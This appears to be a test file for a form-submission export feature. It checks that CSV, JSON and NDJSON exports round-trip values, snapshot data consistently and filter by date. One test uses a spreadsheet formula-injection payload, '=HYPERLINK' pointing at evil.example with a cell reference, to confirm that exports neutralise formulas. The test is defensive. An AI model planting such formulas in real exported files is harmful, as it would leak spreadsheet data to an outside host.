import { describe, expect, test } from 'bun:test'
import { parse } from 'csv-parse/sync'
import { sql } from 'drizzle-orm'
import { createdAt, idAt, newId } from '../../src/base/id.ts'
import { existingForm } from '../../src/commands/data-folder.ts'
import { openSnapshot, type Snapshot } from '../../src/storage/snapshot.ts'
import { parseDateRange } from '../../src/submissions/date-range.ts'
import { toData } from '../../src/submissions/fields.ts'
import { type ExportOptions, exportParts, type Part } from '../../src/transfer/export/export.ts'
import { afterThisTest } from '../harness.ts'
import { openData } from '../storage/data.ts'

type Data = ReturnType<typeof openData>

/** Adds a submission whose members have this JSON text, a second after the one before. */
const submit = ({ formId, run }: Data, members: Readonly<Record<string, string>>): string => {
  clock += 1000
  const id = newId(clock)
  const { data, names } = toData(Object.entries(members).map(([name, json]) => ({ name, json })))
  run('createSubmission', { formId, id, data, fieldNames: names })
  return id
}
let clock = Date.parse('2026-11-01T08:00:00.000Z')

const everything: ExportOptions = {
  format: 'csv',
  range: { start: null, end: null },
  style: {},
}

const snapshotOf = ({ folder }: Data): Snapshot => {
  const snapshot = openSnapshot(folder)
  afterThisTest(snapshot.close)
  return snapshot
}

/** Of a format that needs no waiting. */
const partsOf = (data: Data, options: Partial<ExportOptions>, { db }: Snapshot): Generator<Part, void> =>
  exportParts(db, existingForm(db, data.formId), { ...everything, ...options }) as Generator<Part, void>

const textOf = (data: Data, options: Partial<ExportOptions> = {}, snapshot = snapshotOf(data)): string => {
  const parts = partsOf(data, options, snapshot)
  return Buffer.concat([...parts].map((part) => Buffer.from(part as string))).toString()
}

describe('a CSV export', () => {
  test('has a column for each field name, and what is left over as JSON in the last', () => {
    const data = openData()
    const first = submit(data, { name: '"Ada"', message: '"Hello, \\"you\\"\\r\\nthere"' })
    const second = submit(data, {
      name: '"Grace"',
      id: '"7"',
      createdAt: '1',
      more: '[1]',
      '': '"nameless"',
      topics: '["a", "b"]',
      age: '36',
    })
    expect(textOf(data)).toBe(
      'id,createdAt,name,message,topics,age,more\r\n' +
        `${first},${createdAt(first)},Ada,"Hello, ""you""\r\nthere",,,\r\n` +
        `${second},${createdAt(second)},Grace,,"[""a"", ""b""]",36,` +
        '"{""id"":""7"",""createdAt"":1,""more"":[1],"""":""nameless""}"\r\n',
    )
  })

  test('shows each kind of value', () => {
    const data = openData()
    const long = '9007199254740993.10'
    submit(data, { a: '""', b: 'null', c: 'true', d: long, e: '-5', f: '{"x":[1,\n\t2]}', g: '"\\u00e9"', h: '"-5"' })
    const [, row = ''] = textOf(data).split('\r\n')
    expect(row.slice(row.indexOf('Z,') + 2)).toBe(`"",,true,${long},-5,"{""x"":[1,  2]}",é,-5,`)
  })

  test('is opened again by a library, cell for cell', () => {
    const data = openData()
    const texts = [
      '',
      ' ',
      ',',
      '"',
      '""',
      '\n',
      '\r',
      '\r\n',
      'a\tb',
      'x,"y"\r\nz',
      '\u2028',
      '😀',
      '日本',
      "'",
      ';',
      '\\',
    ]
    for (const text of texts) submit(data, { text: JSON.stringify(text), 'a "quoted", name': '"x"' })
    const rows: string[][] = parse(textOf(data, { style: { raw: true } }))
    expect(rows[0]).toEqual(['id', 'createdAt', 'text', 'a "quoted", name', 'more'])
    expect(rows.slice(1).map((row) => row[2])).toEqual(texts)
  })

  test('has no formulas, not even in field names, unless it is raw', () => {
    const data = openData()
    submit(data, { '=name': '"=1+1"', nested: '["x;=1"]', '\u202eother': '"\\t@x"' })
    const formula = '"=HYPERLINK(\\"https://evil.example/?\\"&A1)"'
    submit(data, Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`field${i}`, formula])))
    submit(data, { 'not a column': formula })
    const cells = (parse(textOf(data), { relax_column_count: false }) as string[][]).flat()
    expect(
      cells.filter((cell) => /(^|[;\t\r\n])['"\s]*[=+\-@]/.test(cell) && !/(^|[;\t\r\n])['"\s]*'/.test(cell)),
    ).toEqual([])
    expect(cells).toContain("'=name")
    expect(cells).toContain("'=1+1")
    expect(cells).toContain(`["x;'=1"]`)
    const raw = (parse(textOf(data, { style: { raw: true } })) as string[][]).flat()
    expect(raw).toContain('=name')
    expect(raw).toContain('=1+1')
    expect(raw).toContain('["x;=1"]')
  })

  test('begins with a byte order mark where one is asked for', () => {
    const data = openData()
    expect(textOf(data, { style: { bom: true } })).toBe('\ufeffid,createdAt,more\r\n')
    expect(textOf(data)).toBe('id,createdAt,more\r\n')
  })
})

describe('a JSON or NDJSON export', () => {
  test('has the submissions as the API shows them, a line each', () => {
    const data = openData()
    const id = submit(data, { number: '12345678901234567890.10', nested: '[1,\r\n\t2]' })
    const other = submit(data, { text: '"two\\nlines"' })
    const lines = [
      `{"id":"${id}","formId":"${data.formId}","data":{"number":12345678901234567890.10,"nested":[1,   2]},"createdAt":"${createdAt(id)}"}`,
      `{"id":"${other}","formId":"${data.formId}","data":{"text":"two\\nlines"},"createdAt":"${createdAt(other)}"}`,
    ]
    expect(textOf(data, { format: 'ndjson' })).toBe(`${lines.join('\n')}\n`)
    expect(textOf(data, { format: 'json' })).toBe(`[\n${lines.join(',\n')}\n]\n`)
  })

  test('of a form without submissions is empty', () => {
    const data = openData()
    expect(textOf(data, { format: 'ndjson' })).toBe('')
    expect(textOf(data, { format: 'json' })).toBe('[]\n')
  })
})

describe.each(['csv', 'ndjson', 'json'] as const)('an export as %s', (format) => {
  const idsIn = (text: string): string[] =>
    [...text.matchAll(format === 'csv' ? /^(\w{28}),/gm : /^\{"id":"(\w{28})"/gm)].map(([, id = '']) => id)

  test('has what was there when it began, each once and oldest first, whatever is written meanwhile', () => {
    const data = openData()
    const start = Date.parse('2026-11-01T00:00:00Z')
    const ids = data.submit(
      data.formId,
      Array.from({ length: 2500 }, (_, i) => start + i * 60_000),
    )
    const snapshot = snapshotOf(data)
    const parts = partsOf(data, { format }, snapshot)
    let text = ''
    for (let i = 0; i < 5; i++) text += parts.next().value
    // Before, between and after those that were read, and those that are to be read.
    data.submit(data.formId, [start - 1, start + 90_000, start + 2000 * 60_000 + 1, start + 9999 * 60_000])
    data.run('deleteSubmissions', {
      userId: data.userId,
      formId: data.formId,
      list: 'inbox',
      ids: ids.slice(1500, 2400),
    })
    data.run('createSubmission', {
      formId: data.formId,
      id: newId(Date.now()),
      data: '{"newField":1}',
      fieldNames: ['newField'],
    })
    for (const part of parts) text += part
    expect(idsIn(text)).toEqual(ids)
    expect(text).not.toContain('newField')
  })

  test('goes on when its form is deleted meanwhile', () => {
    const data = openData()
    const ids = data.submit(
      data.formId,
      Array.from({ length: 500 }, (_, i) => clock + i),
    )
    const snapshot = snapshotOf(data)
    data.run('deleteForms', { userId: data.userId, now: Date.now(), ids: [data.formId] })
    while (data.run('removeDeletedSlice', { maxRows: 100, maxBytes: 1 }));
    expect(idsIn(textOf(data, { format }, snapshot))).toEqual(ids)
  })

  test('has those of a date range alone, both ends inclusive', () => {
    const data = openData()
    const times = [
      '2026-10-31T23:59:59.999Z',
      '2026-11-01T00:00:00.000Z',
      '2026-11-02T23:59:59.999Z',
      '2026-11-03T00:00:00.000Z',
    ]
    const ids = data.submit(data.formId, times.map(Date.parse))
    const idsOf = (start?: string, end?: string) => idsIn(textOf(data, { format, range: parseDateRange(start, end) }))
    expect(idsOf('2026-11-01', '2026-11-02')).toEqual(ids.slice(1, 3))
    expect(idsOf('2026-11-01')).toEqual(ids.slice(1))
    expect(idsOf(undefined, '2026-11-02')).toEqual(ids.slice(0, 3))
    expect(idsOf(times[1], times[1])).toEqual(ids.slice(1, 2))
  })

  test('has long submissions whole, where they end in the middle of a character too', () => {
    const data = openData()
    const long = ['é'.repeat(40_000), '😀'.repeat(200_000), 'x'.repeat(64 * 1024 - 10), '"\n'.repeat(100_000)]
    for (const text of long) {
      submit(data, { text: JSON.stringify(text) })
      submit(data, { text: '"short"' })
    }
    const text = textOf(data, { format })
    const found =
      format === 'csv'
        ? (parse(text) as string[][]).slice(1).map((row) => row[2])
        : (format === 'json'
            ? JSON.parse(text)
            : text
                .trim()
                .split('\n')
                .map((line) => JSON.parse(line))
          ).map((submission: { data: { text: string } }) => submission.data.text)
    expect(found).toEqual(long.flatMap((text) => [text, 'short']))
  })
})

describe('what was done about submissions', () => {
  const handled = () => {
    const data = openData()
    const ids = [submit(data, { name: '"Grace"' }), submit(data, { name: '"Mary"', state: '"Ohio"' })]
    const [id] = ids
    data.run('handleSubmissions', { ...data, ids: [id], now: clock, state: 'done' })
    const noteIds = [idAt(clock, 0), idAt(clock + 1000, 0)] as const
    const texts = ['=1+1,\n\tü', 'Called']
    for (const [position, noteId] of noteIds.entries())
      data.run('addNote', { ...data, submissionId: id, id: noteId, text: texts[position] })
    const by = data.db.values<[string]>(sql`select email from users`)[0]?.[0]
    const times = noteIds.map(createdAt)
    return { data, ids, notes: texts.map((text, position) => ({ text, by, createdAt: times[position] })) }
  }

  test('is exported where any is handled, and no column more where none is', () => {
    const { data, ids, notes } = handled()
    const [header, first, second] = parse(textOf(data, { style: { raw: true } })) as string[][]
    expect(header).toEqual(['id', 'createdAt', 'name', 'state', 'more', 'handling state', 'notes'])
    const [by, lines] = [notes[0]?.by, notes.map(({ createdAt: at }) => at)]
    const cell = `${lines[0]} ${by}: =1+1, ü\n${lines[1]} ${by}: Called`
    expect(first?.slice(2)).toEqual(['Grace', '', '', 'done', cell])
    expect(second?.slice(2)).toEqual(['Mary', 'Ohio', '', 'open', ''])
    const json = JSON.parse(textOf(data, { format: 'json' }))
    expect(json.map((one: Record<string, string>) => [one.id, one.state, one.notes])).toEqual([
      [ids[0], 'done', notes],
      [ids[1], 'open', []],
    ])
    const other = openData()
    submit(other, { name: '"Grace"' })
    expect(textOf(other)).toStartWith('id,createdAt,name,more\r\n')
    expect(Object.keys(JSON.parse(textOf(other, { format: 'ndjson' })))).toEqual(['id', 'formId', 'data', 'createdAt'])
  })
})
